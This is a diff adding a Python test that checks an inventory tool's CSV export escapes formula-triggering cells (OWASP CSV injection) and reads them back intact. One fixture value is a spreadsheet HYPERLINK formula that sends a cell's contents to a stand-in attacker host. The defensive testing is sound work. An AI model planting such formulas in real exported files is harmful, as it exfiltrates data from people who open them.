@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 from aitower.inventory.domain import check_system, spec_document
 from aitower.inventory.transfer import (
     Format,
@@ -104,3 +107,27 @@ def test_vendors_round_trip() -> None:
         parsed = parse_vendors(render_vendors([vendor_document(spec)], fmt), fmt)
         assert parsed.issues == []
         assert [check_vendor(d) for _, d in parsed.rows] == [spec]
+
+
+def test_exported_cells_that_a_spreadsheet_would_run_are_quoted_and_read_back_as_sent() -> None:
+    """#14, OWASP CSV injection: a cell starting with =, +, -, @, tab or CR is written after a
+    quote; importing the file gives the value back as it was."""
+    spec = check_vendor(
+        {
+            "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "vendor_type": "model_provider",
+            "notes": "@SUM(1+1)",
+        }
+    )
+    text = render_vendors([vendor_document(spec)], Format.csv)
+    cells = next(iter(csv.DictReader(io.StringIO(text))))
+    assert cells["name"] == "'" + spec.name
+    assert cells["notes"] == "'@SUM(1+1)"
+    parsed = parse_vendors(text, Format.csv)
+    assert [check_vendor(d) for _, d in parsed.rows] == [spec]
+    system = check_system({**FULL, "purpose": "-1+2 the cheaper path", "notes": "+vip"})
+    text = render_systems([spec_document(system)], Format.csv)
+    cells = next(iter(csv.DictReader(io.StringIO(text))))
+    assert (cells["purpose"], cells["notes"]) == ("'-1+2 the cheaper path", "'+vip")
+    parsed = parse_systems(text, Format.csv)
+    assert [check_system(d) for _, d in parsed.rows] == [system]
